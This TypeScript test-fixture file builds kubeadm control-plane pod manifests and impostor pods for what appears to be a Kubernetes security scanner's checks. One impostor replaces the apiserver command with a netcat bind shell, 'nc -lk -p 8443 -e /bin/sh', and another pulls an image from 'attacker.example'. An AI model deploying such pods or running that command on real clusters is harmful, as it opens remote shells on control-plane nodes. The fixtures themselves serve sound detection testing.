// Test fixtures: the control plane's static pods as a kubeadm cluster shows them (mirror pods, as
// `kubectl get pod -n kube-system -o yaml` prints them, trimmed), and impostors that copy them.
// Used by the tests of pod/host-network, pod/host-path-volume, pod/probe-host and
// pod/service-account-token-mounted, and by src/inventory/static-pods.test.ts.

/**
 * kubeadm v1.30's kube-apiserver mirror pod; `mirror: false` leaves out its mirror annotation (the pod as
 * a manifest file has none), `namespace` and `label` (its component label) change those.
 */
export function kubeadmApiserver(options: { namespace?: string; mirror?: boolean; label?: string } = {}): string {
  const { namespace = 'kube-system', mirror = true, label = 'kube-apiserver' } = options;
  return `apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver-cp1
  namespace: ${namespace}
  annotations:
    kubeadm.kubernetes.io/kube-apiserver.advertise-address.endpoint: 192.168.49.2:8443
${mirror ? `    kubernetes.io/config.mirror: 5b3c0a1e8a3b0a7e1f6c3e8b9d2a4c61
` : ''}    kubernetes.io/config.source: file
  labels:
    component: ${label}
    tier: control-plane
spec:
  containers:
  - command:
    - kube-apiserver
    - --advertise-address=192.168.49.2
    - --authorization-mode=Node,RBAC
    - --client-ca-file=/etc/kubernetes/pki/ca.crt
    - --etcd-cafile=/etc/kubernetes/pki/etcd/ca.crt
    - --etcd-servers=https://127.0.0.1:2379
    - --tls-cert-file=/etc/kubernetes/pki/apiserver.crt
    - --tls-private-key-file=/etc/kubernetes/pki/apiserver.key
    image: registry.k8s.io/kube-apiserver:v1.30.0
    livenessProbe:
      httpGet:
        host: 192.168.49.2
        path: /livez
        port: 8443
        scheme: HTTPS
    name: kube-apiserver
    volumeMounts:
    - {mountPath: /etc/ssl/certs, name: ca-certs, readOnly: true}
    - {mountPath: /etc/ca-certificates, name: etc-ca-certificates, readOnly: true}
    - {mountPath: /etc/kubernetes/pki, name: k8s-certs, readOnly: true}
    - {mountPath: /usr/local/share/ca-certificates, name: usr-local-share-ca-certificates, readOnly: true}
    - {mountPath: /usr/share/ca-certificates, name: usr-share-ca-certificates, readOnly: true}
  hostNetwork: true
  priorityClassName: system-node-critical
  securityContext:
    seccompProfile: {type: RuntimeDefault}
  volumes:
  - {hostPath: {path: /etc/ssl/certs, type: DirectoryOrCreate}, name: ca-certs}
  - {hostPath: {path: /etc/ca-certificates, type: DirectoryOrCreate}, name: etc-ca-certificates}
  - {hostPath: {path: /etc/kubernetes/pki, type: DirectoryOrCreate}, name: k8s-certs}
  - {hostPath: {path: /usr/local/share/ca-certificates, type: DirectoryOrCreate}, name: usr-local-share-ca-certificates}
  - {hostPath: {path: /usr/share/ca-certificates, type: DirectoryOrCreate}, name: usr-share-ca-certificates}
`;
}

/** kubeadm v1.30's etcd mirror pod: its data directory and certificates are mounted writable. */
export const KUBEADM_ETCD = `apiVersion: v1
kind: Pod
metadata:
  name: etcd-cp1
  namespace: kube-system
  annotations:
    kubernetes.io/config.mirror: 0f8e6c2d8b6e4c1a9f2d7e3b5a1c9d40
  labels: {component: etcd, tier: control-plane}
spec:
  containers:
  - command:
    - etcd
    - --cert-file=/etc/kubernetes/pki/etcd/server.crt
    - --client-cert-auth=true
    - --data-dir=/var/lib/etcd
    - --key-file=/etc/kubernetes/pki/etcd/server.key
    - --listen-client-urls=https://127.0.0.1:2379,https://192.168.49.2:2379
    - --trusted-ca-file=/etc/kubernetes/pki/etcd/ca.crt
    image: registry.k8s.io/etcd:3.5.12-0
    livenessProbe:
      httpGet: {host: 127.0.0.1, path: /health?exclude=NOSPACE&serializable=true, port: 2381, scheme: HTTP}
    name: etcd
    volumeMounts:
    - {mountPath: /var/lib/etcd, name: etcd-data}
    - {mountPath: /etc/kubernetes/pki/etcd, name: etcd-certs}
  hostNetwork: true
  volumes:
  - {hostPath: {path: /etc/kubernetes/pki/etcd, type: DirectoryOrCreate}, name: etcd-certs}
  - {hostPath: {path: /var/lib/etcd, type: DirectoryOrCreate}, name: etcd-data}
`;

/** kubeadm v1.30's kube-controller-manager mirror pod (flexvolume-dir is the --flex-volume-plugin-dir default). */
export const KUBEADM_CONTROLLER_MANAGER = `apiVersion: v1
kind: Pod
metadata:
  name: kube-controller-manager-cp1
  namespace: kube-system
  annotations: {kubernetes.io/config.mirror: 9a1d3c5e7f9b1d3f5a7c9e1b3d5f7a9c}
  labels: {component: kube-controller-manager, tier: control-plane}
spec:
  containers:
  - command:
    - kube-controller-manager
    - --kubeconfig=/etc/kubernetes/controller-manager.conf
    - --root-ca-file=/etc/kubernetes/pki/ca.crt
    - --service-account-private-key-file=/etc/kubernetes/pki/sa.key
    image: registry.k8s.io/kube-controller-manager:v1.30.0
    name: kube-controller-manager
    volumeMounts:
    - {mountPath: /etc/ssl/certs, name: ca-certs, readOnly: true}
    - {mountPath: /usr/libexec/kubernetes/kubelet-plugins/volume/exec, name: flexvolume-dir}
    - {mountPath: /etc/kubernetes/pki, name: k8s-certs, readOnly: true}
    - {mountPath: /etc/kubernetes/controller-manager.conf, name: kubeconfig, readOnly: true}
  hostNetwork: true
  volumes:
  - {hostPath: {path: /etc/ssl/certs, type: DirectoryOrCreate}, name: ca-certs}
  - {hostPath: {path: /usr/libexec/kubernetes/kubelet-plugins/volume/exec, type: DirectoryOrCreate}, name: flexvolume-dir}
  - {hostPath: {path: /etc/kubernetes/pki, type: DirectoryOrCreate}, name: k8s-certs}
  - {hostPath: {path: /etc/kubernetes/controller-manager.conf, type: FileOrCreate}, name: kubeconfig}
`;

/**
 * A pod that copies the apiserver's mirror pod (name, namespace, labels, annotation, volumes) but runs
 * something else: its container is named kube-apiserver and runs the kube-apiserver image, but its
 * command is a shell.
 */
export const IMPOSTOR_COMMAND = kubeadmApiserver().replace(
  '  - command:\n    - kube-apiserver\n',
  '  - command:\n    - /bin/sh\n    - -c\n    - nc -lk -p 8443 -e /bin/sh\n',
);

/**
 * A pod that copies the apiserver's mirror pod but whose container has no executable in its command:
 * only flags, so the component index guesses kube-apiserver from the container's name and image.
 */
export const IMPOSTOR_NAME_ONLY = kubeadmApiserver()
  .replace('  - command:\n    - kube-apiserver\n', '  - args:\n')
  .replace('image: registry.k8s.io/kube-apiserver:v1.30.0', 'image: attacker.example/kube-apiserver:v1.30.0');

/** The 1-based line of the first line of `yaml` that is `text` once trimmed. */
export function lineOf(yaml: string, text: string): number {
  const i = yaml.split('\n').findIndex((l) => l.trim() === text);
  if (i < 0) throw new Error(`no line ${text}`);
  return i + 1;
}
